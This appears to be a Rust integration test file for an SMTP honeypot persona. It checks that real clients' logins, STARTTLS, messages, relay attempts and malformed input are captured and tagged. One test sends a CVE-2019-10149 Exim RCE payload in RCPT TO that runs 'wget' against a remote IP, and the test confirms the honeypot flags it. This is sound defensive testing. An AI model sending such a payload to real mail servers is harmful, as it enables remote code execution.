//! The smtp persona over real sockets, driven by real clients: Python `smtplib` (EHLO, STARTTLS,
//! AUTH CRAM-MD5/PLAIN/LOGIN, a message with a leading dot), `swaks` (AUTH LOGIN over STARTTLS,
//! AUTH PLAIN in the clear), `openssl s_client -starttls smtp`, and raw bytes for the bad
//! input: the Exim `${run{...}}` shape, an overlong line, unterminated DATA.

use std::process::Stdio;

use crate::common::*;
use honeyport_event::{EndReason, Event, EventKind};

fn config(persona: &str, limits: &str) -> String {
    format!(
        r#"
[limits]
{limits}

[personas.mx]
type = "smtp"
hostname = "mx.example.test"
{persona}

[[listeners]]
name = "smtp"
ports = 0
bind = ["127.0.0.1"]
persona = "mx"
"#
    )
}

/// Every login captured, in order: (username, password, method).
fn logins(s: &[Event]) -> Vec<(Vec<u8>, Vec<u8>, String)> {
    s.iter()
        .filter_map(|e| match &e.kind {
            EventKind::LoginFailed {
                username,
                password,
                method,
            } => Some((username.0.clone(), password.0.clone(), method.clone())),
            _ => None,
        })
        .collect()
}

fn tag_len(s: &[Event], name: &str) -> Option<u64> {
    s.iter().find_map(|e| match &e.kind {
        EventKind::RuleMatch {
            rule,
            action,
            match_len,
        } if rule == name && action == "tag" => Some(*match_len),
        _ => None,
    })
}

const SMTPLIB: &str = r#"
import smtplib, ssl, sys
host, port = sys.argv[1], int(sys.argv[2])
s = smtplib.SMTP(host, port, timeout=10)
code, caps = s.ehlo("client.example.test")
assert code == 250, (code, caps)
assert b"STARTTLS" in caps, caps
s.starttls(context=ssl._create_unverified_context())
code, caps = s.ehlo("client.example.test")
assert b"STARTTLS" not in caps, caps
try:
    # Tries every advertised mechanism in turn: CRAM-MD5, PLAIN, LOGIN.
    s.login("admin", "p@ss w0rd!")
    sys.exit("login accepted?")
except smtplib.SMTPAuthenticationError as e:
    assert e.smtp_code == 535, e
msg = "Subject: hi\r\n\r\nline one\r\n.leading dot\r\n"
refused = s.sendmail("bot@sender.example", ["user@mx.example.test"], msg)
assert refused == {}, refused
s.quit()
print("ok")
"#;

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn python_smtplib_starttls_auth_and_a_message_are_captured_exactly() {
    let s = start(&config("starttls = { self_signed = true }", "")).await;
    let addr = s.tcp("smtp");
    let out = run_client(
        tokio::process::Command::new("python3")
            .arg("-c")
            .arg(SMTPLIB)
            .arg(addr.ip().to_string())
            .arg(addr.port().to_string()),
    )
    .await;
    assert!(
        out.status.success(),
        "smtplib: {}\n{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );

    let done = s.stop().await;
    done.assert_paired();
    let sessions = done.sessions();
    assert_eq!(sessions.len(), 1);
    let sess = &sessions[0];
    assert_eq!(count_kind(sess, "tls.handshake"), 1);
    let got = logins(sess);
    let methods: Vec<&str> = got.iter().map(|l| l.2.as_str()).collect();
    assert_eq!(methods, ["smtp-cram-md5", "smtp-plain", "smtp-login"]);
    for (user, _, _) in &got {
        assert_eq!(user, b"admin");
    }
    assert_eq!(got[1].1, b"p@ss w0rd!");
    assert_eq!(got[2].1, b"p@ss w0rd!");
    // The CRAM-MD5 "password" is the client's HMAC-MD5 of our challenge, as sent.
    assert_eq!(got[0].1.len(), 32);
    assert!(got[0].1.iter().all(u8::is_ascii_hexdigit));

    let cmds = commands_flagged(sess);
    let lines: Vec<&[u8]> = cmds.iter().map(|c| c.0.as_slice()).collect();
    assert!(
        lines.contains(&&b"ehlo client.example.test"[..]),
        "{lines:?}"
    );
    assert!(lines.contains(&&b"STARTTLS"[..]), "{lines:?}");
    assert!(
        lines
            .iter()
            .any(|l| l.starts_with(b"mail FROM:<bot@sender.example>")),
        "{lines:?}"
    );
    assert!(
        lines.contains(&&b"rcpt TO:<user@mx.example.test>"[..]),
        "{lines:?}"
    );
    assert!(lines.contains(&&b"data"[..]), "{lines:?}");
    assert!(cmds.iter().all(|c| c.1), "{cmds:?}");
    // The message body (dot-stuffed on the wire) is in the decrypted input.
    assert!(contains(
        &input_of(sess),
        b"line one\r\n..leading dot\r\n.\r\n"
    ));
    assert!(contains(&output_of(sess), b"250 OK id="));
    assert_eq!(end_of(sess), (EndReason::Persona, None));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn swaks_auth_login_over_starttls_and_auth_plain_in_the_clear() {
    let s = start(&config(
        "profile = \"postfix\"\nstarttls = { self_signed = true }",
        "",
    ))
    .await;
    let addr = s.tcp("smtp").to_string();
    let swaks = |extra: &[&str]| {
        let mut c = tokio::process::Command::new("swaks");
        c.args(["--server", &addr, "--to", "victim@mx.example.test"])
            .args(["--from", "spam@sender.example", "--helo", "bot.example"])
            .args(extra);
        c
    };
    let tls = run_client(&mut swaks(&[
        "--tls",
        "--auth",
        "LOGIN",
        "--auth-user",
        "u1",
        "--auth-password",
        "secret one",
    ]))
    .await;
    let tls_out = String::from_utf8_lossy(&tls.stdout).to_string();
    assert!(
        tls_out.contains("220 2.0.0 Ready to start TLS"),
        "{tls_out}"
    );
    assert!(
        tls_out.contains("535 5.7.8 Error: authentication failed"),
        "{tls_out}"
    );
    let plain = run_client(&mut swaks(&[
        "--auth",
        "PLAIN",
        "--auth-user",
        "u2",
        "--auth-password",
        "pw2",
    ]))
    .await;
    let plain_out = String::from_utf8_lossy(&plain.stdout).to_string();
    assert!(
        plain_out.contains("ESMTP Postfix (Debian/GNU)"),
        "{plain_out}"
    );
    // Without AUTH, a whole message goes through.
    let msg = run_client(&mut swaks(&["--body", "hello from swaks"])).await;
    let msg_out = String::from_utf8_lossy(&msg.stdout).to_string();
    assert!(msg.status.success(), "{msg_out}");
    assert!(msg_out.contains("250 2.0.0 Ok: queued as "), "{msg_out}");

    let done = s.stop().await;
    done.assert_paired();
    let sessions = done.sessions();
    assert_eq!(sessions.len(), 3);
    assert_eq!(count_kind(&sessions[0], "tls.handshake"), 1);
    assert_eq!(
        logins(&sessions[0]),
        vec![(b"u1".to_vec(), b"secret one".to_vec(), "smtp-login".into())]
    );
    assert_eq!(count_kind(&sessions[1], "tls.handshake"), 0);
    assert_eq!(
        logins(&sessions[1]),
        vec![(b"u2".to_vec(), b"pw2".to_vec(), "smtp-plain".into())]
    );
    assert!(contains(&input_of(&sessions[2]), b"hello from swaks"));
    assert!(logins(&sessions[2]).is_empty());
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn openssl_starttls_smtp_client_upgrades_and_talks_through_tls() {
    let s = start(&config("starttls = { self_signed = true }", "")).await;
    let mut child = tokio::process::Command::new("openssl")
        .args(["s_client", "-starttls", "smtp", "-quiet", "-connect"])
        .arg(s.tcp("smtp").to_string())
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::null())
        .kill_on_drop(true)
        .spawn()
        .expect("openssl runs");
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    let mut stdin = child.stdin.take().unwrap();
    stdin.write_all(b"NOOP\r\nQUIT\r\n").await.unwrap();
    let mut stdout = child.stdout.take().unwrap();
    let mut got = Vec::new();
    tokio::time::timeout(WAIT, stdout.read_to_end(&mut got))
        .await
        .expect("s_client hung")
        .unwrap();
    assert!(
        contains(&got, b"221 mx.example.test closing connection"),
        "{}",
        String::from_utf8_lossy(&got)
    );
    let _ = child.wait().await;

    let done = s.stop().await;
    done.assert_paired();
    let sess = &done.sessions()[0];
    assert_eq!(count_kind(sess, "tls.handshake"), 1);
    let cmds: Vec<Vec<u8>> = commands_flagged(sess).into_iter().map(|c| c.0).collect();
    assert!(
        cmds.ends_with(&[b"NOOP".to_vec(), b"QUIT".to_vec()]),
        "{cmds:?}"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn starttls_is_not_offered_on_an_implicit_tls_listener() {
    let s = start(&config("starttls = { self_signed = true }", "").replace(
        "persona = \"mx\"",
        "persona = \"mx\"\ntls = { self_signed = true }",
    ))
    .await;
    let mut child = tokio::process::Command::new("openssl")
        .args(["s_client", "-quiet", "-connect"])
        .arg(s.tcp("smtp").to_string())
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::null())
        .kill_on_drop(true)
        .spawn()
        .expect("openssl runs");
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    let mut stdin = child.stdin.take().unwrap();
    stdin
        .write_all(b"EHLO c\r\nSTARTTLS\r\nQUIT\r\n")
        .await
        .unwrap();
    let mut got = Vec::new();
    tokio::time::timeout(WAIT, child.stdout.take().unwrap().read_to_end(&mut got))
        .await
        .expect("s_client hung")
        .unwrap();
    let text = String::from_utf8_lossy(&got);
    assert!(text.contains("250 HELP\r\n"), "{text}");
    assert!(!text.contains("STARTTLS"), "{text}");
    assert!(text.contains("500 unrecognized command\r\n221 "), "{text}");
    let done = s.stop().await;
    done.assert_paired();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn exim_rce_shape_in_rcpt_to_is_tagged_cve_2019_10149() {
    let s = start(&config("", "")).await;
    let mut c = connect(s.tcp("smtp")).await;
    read_until(&mut c, b"ESMTP Exim 4.92 #2 ").await;
    let rcpt = b"RCPT TO:<${run{\\x2Fbin\\x2Fsh\\t-c\\t\\x22wget\\x20http://203.0.113.9/x\\x22}}@localhost>";
    let mut script = b"HELO x\r\nMAIL FROM:<>\r\n".to_vec();
    script.extend_from_slice(rcpt);
    script.extend_from_slice(b"\r\nQUIT\r\n");
    send(&mut c, &script).await;
    let back = read_to_close(&mut c).await;
    assert!(
        contains(&back, b"250 OK\r\n250 Accepted\r\n221 "),
        "{}",
        String::from_utf8_lossy(&back)
    );

    let done = s.stop().await;
    done.assert_paired();
    let sess = &done.sessions()[0];
    let len = tag_len(sess, "CVE-2019-10149").expect("tagged");
    assert_eq!(len as usize, rcpt.len() - b"RCPT TO:<>".len());
    assert!(commands_flagged(sess).iter().any(|(l, _)| l == rcpt));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_overlong_command_line_is_capped_answered_and_recorded() {
    let s = start(&config("max_line = 256", "")).await;
    let mut c = connect(s.tcp("smtp")).await;
    read_until(&mut c, b"\r\n").await;
    let mut long = b"EHLO ".to_vec();
    long.extend(std::iter::repeat_n(b'A', 100_000));
    long.extend_from_slice(b"\r\nNOOP\r\n");
    send(&mut c, &long).await;
    let back = read_until(&mut c, b"250 OK\r\n").await;
    assert_eq!(back, b"500 line too long\r\n250 OK\r\n");
    send(&mut c, b"QUIT\r\n").await;
    read_to_close(&mut c).await;

    let done = s.stop().await;
    done.assert_paired();
    let sess = &done.sessions()[0];
    let cmds = commands_flagged(sess);
    assert_eq!(cmds[0].0.len(), 256);
    assert!(cmds[0].0.starts_with(b"EHLO AAAA"));
    assert!(!cmds[0].1);
    assert_eq!(tag_len(sess, "smtp.line_too_long"), Some(256));
    assert!(tag_len(sess, "CVE-2019-16928").is_some());
    // The whole line is still in the raw input.
    assert_eq!(input_of(sess).len(), long.len() + b"QUIT\r\n".len());
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn unterminated_data_ends_at_the_idle_timeout_with_the_partial_message_recorded() {
    let s = start(&config("", r#"idle_timeout = "300ms""#)).await;
    let mut c = connect(s.tcp("smtp")).await;
    read_until(&mut c, b"\r\n").await;
    send(
        &mut c,
        b"HELO x\r\nMAIL FROM:<a@b.example>\r\nRCPT TO:<postmaster@localhost>\r\nDATA\r\n",
    )
    .await;
    read_until(&mut c, b"354 Enter message").await;
    let partial = b"Subject: never ends\r\n\r\nbody without the final dot";
    send(&mut c, partial).await;
    read_to_close(&mut c).await;

    let done = s.stop().await;
    done.assert_paired();
    let sess = &done.sessions()[0];
    assert_eq!(end_of(sess), (EndReason::IdleTimeout, None));
    assert!(input_of(sess).ends_with(partial));
    assert_eq!(
        tag_len(sess, "smtp.data_unterminated"),
        Some(partial.len() as u64)
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_relay_attempt_is_tagged_and_refused() {
    let s = start(&config("", "")).await;
    let mut c = connect(s.tcp("smtp")).await;
    read_until(&mut c, b"\r\n").await;
    send(
        &mut c,
        b"EHLO x\r\nMAIL FROM:<a@b.example>\r\nRCPT TO:<victim@elsewhere.example>\r\nQUIT\r\n",
    )
    .await;
    let back = read_to_close(&mut c).await;
    assert!(
        contains(&back, b"550 relay not permitted\r\n"),
        "{}",
        String::from_utf8_lossy(&back)
    );
    let done = s.stop().await;
    done.assert_paired();
    let sess = &done.sessions()[0];
    assert_eq!(
        tag_len(sess, "smtp.relay_attempt"),
        Some(b"victim@elsewhere.example".len() as u64)
    );
}

#[test]
fn smtp_config_mistakes_are_reported() {
    let src = config("profile = \"sendmail\"\nmax_errors = 0", "").replace(
        "bind = [\"127.0.0.1\"]",
        "bind = [\"127.0.0.1\"]\ntransport = \"udp\"",
    );
    let err = match honeyport::config::validate_str(&src, "t.toml", &fixtures()) {
        Ok(_) => panic!("accepted"),
        Err(e) => e,
    };
    let text = err.to_string();
    assert!(text.contains("personas.mx.profile"), "{text}");
    assert!(text.contains("personas.mx.max_errors"), "{text}");
    assert!(text.contains("needs TCP"), "{text}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn nmap_identifies_the_exim_and_postfix_profiles() {
    let s = start(
        r#"
[personas.exim]
type = "smtp"
starttls = { self_signed = true }

[personas.postfix]
type = "smtp"
profile = "postfix"

[[listeners]]
name = "exim"
ports = 0
bind = ["127.0.0.1"]
persona = "exim"

[[listeners]]
name = "postfix"
ports = 0
bind = ["127.0.0.1"]
persona = "postfix"
"#,
    )
    .await;
    let (exim, postfix) = (s.tcp("exim").port(), s.tcp("postfix").port());
    let (lines, text) = nmap_service_lines(&[exim, postfix]).await;
    assert!(lines[0].contains("Exim smtpd 4.92"), "{text}");
    assert!(lines[1].contains("Postfix smtpd"), "{text}");
    let done = s.stop().await;
    done.assert_paired();
}
